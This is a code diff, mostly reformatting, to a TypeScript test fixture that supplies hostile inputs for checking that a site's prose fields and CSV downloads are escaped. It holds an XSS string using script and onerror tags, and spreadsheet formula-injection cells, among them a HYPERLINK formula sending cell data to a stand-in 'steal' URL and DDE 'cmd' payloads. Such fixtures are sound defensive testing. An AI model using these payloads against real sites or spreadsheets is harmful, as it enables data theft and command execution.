@@ -10,14 +10,15 @@ import { withDemoData } from '../editorial/fixture.ts';
  * title or summary before the build (tests/lib/preflight-prose.test.ts); these elements are let through there as
  * possibly meant (a story about the <script> element) and must come out as text.
  */
-export const payload = (field: string) => `<script>alert("${field}")</script><img src=x onerror="alert('${field}')"><marquee>${field}</marquee> & co`;
+export const payload = (field: string) =>
+  `<script>alert("${field}")</script><img src=x onerror="alert('${field}')"><marquee>${field}</marquee> & co`;
 
 /** Cells of a dataset's text column, and its number column beside them, for the CSV download. */
 export const formulaRows: [string, number][] = [
   ['=HYPERLINK("https://example.org/steal?d="&A1,"Details")', 1],
-  ['+cmd|\' /C calc\'!A0', -2],
+  ["+cmd|' /C calc'!A0", -2],
   ['-2+3', -40.5],
-  ['@SUM(1+1)*cmd|\' /C calc\'!A0', 0],
+  ["@SUM(1+1)*cmd|' /C calc'!A0", 0],
   ['\t=1+1', 3],
   ['-12.5', 4],
   ['+7', 5],
@@ -80,7 +81,10 @@ export function hostileFixture(): ReturnType<typeof makeFixture> {
       rows: formulaRows.map(([label, value]) => ({ label, value })),
     }),
   );
-  const frontmatter = (fields: Record<string, unknown>) => `---\n${Object.entries(fields).map(([k, v]) => `${k}: ${JSON.stringify(v)}`).join('\n')}\n---\n`;
+  const frontmatter = (fields: Record<string, unknown>) =>
+    `---\n${Object.entries(fields)
+      .map(([k, v]) => `${k}: ${JSON.stringify(v)}`)
+      .join('\n')}\n---\n`;
   write(
     'content/stories/hostile.mdx',
     `${frontmatter({
